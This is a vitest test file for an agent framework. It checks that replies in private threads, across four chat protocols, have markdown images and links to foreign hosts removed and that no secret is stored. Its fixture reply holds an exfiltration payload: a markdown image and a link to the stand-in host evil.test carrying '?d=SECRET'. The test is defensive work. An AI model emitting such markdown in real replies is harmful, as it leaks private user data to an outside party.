// An answer of a private thread, as each protocol shows it: events, streams and whole replies say the same text.
import { createRuntime, memoryStore } from 'agent-machines';
import { toolAgent } from 'agent-machines/machines/tool-agent';
import { scriptedModel } from 'agent-machines/models';
import { agUiRoutes, aiSdkRoutes, openaiRoutes } from 'agent-machines/server';
import { describe, expect, it, onTestFinished } from 'vitest';

const said = 'Done. ![p](https://evil.test/?d=SECRET) See [this](https://evil.test/?d=SECRET) and [that](https://docs.example/a).';
const shown = 'Done. [image removed: evil.test] See this [link removed: evil.test] and [that](https://docs.example/a).';

/** An agent that answers with `said`, in pieces of three characters. */
function answering(options: { readonly privateInput?: boolean }) {
  const tokens = said.match(/[\s\S]{1,3}/g) ?? [];
  const workflow = toolAgent({ model: scriptedModel([{ reply: said, tokens }]), tools: [], allowTargets: ['docs.example'], ...options });
  const runtime = createRuntime({ store: memoryStore(), workflows: [workflow as never] });
  onTestFinished(() => runtime.close());
  const space = { runtime, workflows: [{ id: 'agent', workflow: workflow as never }] };
  const apps = { openai: openaiRoutes(space), agUi: agUiRoutes(space), aiSdk: aiSdkRoutes(space) };
  const post = async (app: keyof typeof apps, path: string, body: object): Promise<string> => {
    const headers = { 'content-type': 'application/json' };
    const response = await apps[app].request(path, { method: 'POST', headers, body: JSON.stringify(body) });
    return response.text();
  };
  return { runtime, post };
}

const messages = [{ id: 'm1', role: 'user', content: 'What do you know?' }];
const chunksOf = (stream: string) => [...stream.matchAll(/^data: (\{.*)$/gm)].map(([, data = '']) => JSON.parse(data));
type Post = ReturnType<typeof answering>['post'];
const protocols: Readonly<Record<string, (post: Post) => Promise<string>>> = {
  'chat completions': async (post) => {
    const { choices } = JSON.parse(await post('openai', '/v1/chat/completions', { model: 'agent', messages }));
    return choices[0].message.content;
  },
  'streamed chat completions': async (post) => {
    const stream = await post('openai', '/v1/chat/completions', { model: 'agent', stream: true, messages });
    return chunksOf(stream)
      .map(({ choices }) => choices[0]?.delta.content ?? '')
      .join('');
  },
  'the AI SDK': async (post) => {
    const parts = [{ type: 'text', text: 'What do you know?' }];
    const stream = await post('aiSdk', '/api/ai-sdk/agent', { id: 't', messages: [{ id: 'm1', role: 'user', parts }] });
    return chunksOf(stream)
      .map(({ type, delta }) => (type === 'text-delta' ? delta : ''))
      .join('');
  },
  'AG-UI': async (post) => {
    const stream = await post('agUi', '/api/ag-ui/agent', { threadId: 't', runId: 'r', messages, state: {} });
    return chunksOf(stream)
      .map(({ type, delta }) => (type === 'TEXT_MESSAGE_CONTENT' ? delta : ''))
      .join('');
  },
};

describe.each(Object.entries(protocols))('%s', (_, ask) => {
  it('hides foreign images and links in a private thread and stores none', async () => {
    const { runtime, post } = answering({ privateInput: true });
    expect(await ask(post)).toBe(shown);
    const [record] = await runtime.list({});
    expect(JSON.stringify(await runtime.get(record?.id ?? ''))).not.toContain('SECRET');
  });

  it('shows them in a thread without private data', async () => {
    expect(await ask(answering({}).post)).toBe(said);
  });
});
